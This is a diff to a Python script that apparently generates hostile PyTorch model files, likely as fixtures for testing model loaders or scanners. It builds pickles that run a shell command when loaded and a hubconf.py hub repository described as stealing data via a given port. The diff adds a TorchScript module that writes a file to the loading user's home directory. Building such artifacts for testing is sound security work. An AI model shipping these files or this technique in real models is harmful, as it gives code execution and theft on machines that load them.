@@ -1,4 +1,4 @@
-"""Write a pickle that runs a command and a hub repository that steals; run where PyTorch is."""
+"""Write pickles that run a command, a program that writes, a hub repository that steals."""
 
 import os
 import sys
@@ -20,6 +20,18 @@ def model():
 """
 
 
+class Script(torch.nn.Module):
+    """Write a file from within a TorchScript program."""
+
+    def __init__(self, path: str):
+        super().__init__()
+        self.path = path
+
+    def forward(self, x: torch.Tensor) -> torch.Tensor:
+        torch.ops.aten.save(x, self.path)
+        return x * 2
+
+
 class Command:
     """Run a shell command when it is unpickled."""
 
@@ -39,6 +51,8 @@ def main(out, home, port):
             out / name / "model.pt",
             _use_new_zipfile_serialization=not legacy,
         )
+    (out / "script").mkdir()
+    torch.jit.script(Script(str(home / "script"))).save(out / "script" / "model.pt")
     (out / "hubconf").mkdir()
     (out / "hubconf" / "hubconf.py").write_text(HUBCONF.format(home=str(home), port=port))
 
